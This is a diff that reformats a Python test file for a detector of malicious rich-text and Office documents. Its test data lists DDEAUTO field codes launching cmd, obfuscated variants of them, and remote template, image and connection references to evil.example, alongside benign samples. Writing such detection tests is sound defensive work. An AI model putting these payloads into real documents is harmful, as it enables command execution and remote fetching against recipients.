@@ -337,13 +337,20 @@ def endless() -> bytes:
 
 
 RICH = [
-    b"{\\*\\fldinst {\\rtlch\\fcs1 \\af0}{\\ltrch DDEAUTO cmd \"/k calc\"}}",
+    b'{\\*\\fldinst {\\rtlch\\fcs1 \\af0}{\\ltrch DDEAUTO cmd "/k calc"}}',
     b'{\\*\\fldinst {\\b IN}{\\b CLUDEPICTURE "http://evil.example/a.png"}}',
-    b"{\\*\\fldinst DD\\b E\\b0 AUTO cmd}", b"{\\*\\fldinst \\u68?DE\\u65?UTO cmd}", b"{\\*\\fldinst DD\r\nEAUTO cmd}",
-    b"{\\*\\template \\u104?ttps\\u58?\\u47?\\u47?evil.example/a}", b"{\\*\\template {http}{:}{/}{/evil.example/a}}",
-    b"{\\*\\template ht\r\ntp\r\n:/\r\n/evil.example/a}", b"{\\*\\objdata0 0105}", b"{\\object\\objupdate}",
-    b'{\\*\\fldinst HYPERLINK "\\\\\\\\evil\\\\x.exe"}', b'{\\*\\fldinst INCLUDETEXT "{\\*\\fldinst QUOTE 104}"}',
-    b"\\bin9 {\\*\\xx}}}{\\*\\fldinst DDE cmd}", b"{\\*\\fldinst DDEAUTO cmd",
+    b"{\\*\\fldinst DD\\b E\\b0 AUTO cmd}",
+    b"{\\*\\fldinst \\u68?DE\\u65?UTO cmd}",
+    b"{\\*\\fldinst DD\r\nEAUTO cmd}",
+    b"{\\*\\template \\u104?ttps\\u58?\\u47?\\u47?evil.example/a}",
+    b"{\\*\\template {http}{:}{/}{/evil.example/a}}",
+    b"{\\*\\template ht\r\ntp\r\n:/\r\n/evil.example/a}",
+    b"{\\*\\objdata0 0105}",
+    b"{\\object\\objupdate}",
+    b'{\\*\\fldinst HYPERLINK "\\\\\\\\evil\\\\x.exe"}',
+    b'{\\*\\fldinst INCLUDETEXT "{\\*\\fldinst QUOTE 104}"}',
+    b"\\bin9 {\\*\\xx}}}{\\*\\fldinst DDE cmd}",
+    b"{\\*\\fldinst DDEAUTO cmd",
 ]
 
 
@@ -356,9 +363,12 @@ def test_what_a_rich_text_starts_is_found_in_pieces_and_numbers(written: bytes, 
 @pytest.mark.parametrize(
     "written",
     [
-        b"{\\field{\\*\\fldinst PAGE}{\\fldrslt 1}}", b"DDEAUTO l\\'e0 g\\'ec?",
-        b'{\\field{\\*\\fldinst HYPERLINK "https://vanban.chinhphu.vn"}}', b"{\\*\\template C:\\\\a.dotm}",
-        b"{\\pict\\bin5 DDE}{}", b"{\\field{\\*\\fldinst TOC \\\\o \"1-3\" {\\*\\fldinst PAGEREF a}}}",
+        b"{\\field{\\*\\fldinst PAGE}{\\fldrslt 1}}",
+        b"DDEAUTO l\\'e0 g\\'ec?",
+        b'{\\field{\\*\\fldinst HYPERLINK "https://vanban.chinhphu.vn"}}',
+        b"{\\*\\template C:\\\\a.dotm}",
+        b"{\\pict\\bin5 DDE}{}",
+        b'{\\field{\\*\\fldinst TOC \\\\o "1-3" {\\*\\fldinst PAGEREF a}}}',
     ],
 )
 def test_a_rich_text_that_only_says_so_is_taken(written: bytes) -> None:
@@ -369,7 +379,7 @@ OFFICE_XML: dict[str, tuple[str, bytes]] = {
     "text of another machine": ("xl/connections.xml", b"<a><x:textPr xmlns:x='x' sourceFile='a'/></a>"),
     "connection by a file": ("xl/connections.xml", b"<a><connection odcFile='http://evil.example'/></a>"),
     "painted": ("xl/drawings/a.xml", b"<a><v:imagedata xmlns:v='v' src='//evil.example/a.png'/></a>"),
-    "filled": ("xl/drawings/a.vml", b"<xml><v:fill src=\"https://evil.example/a.png\"><br></xml>"),
+    "filled": ("xl/drawings/a.vml", b'<xml><v:fill src="https://evil.example/a.png"><br></xml>'),
 }
 
 
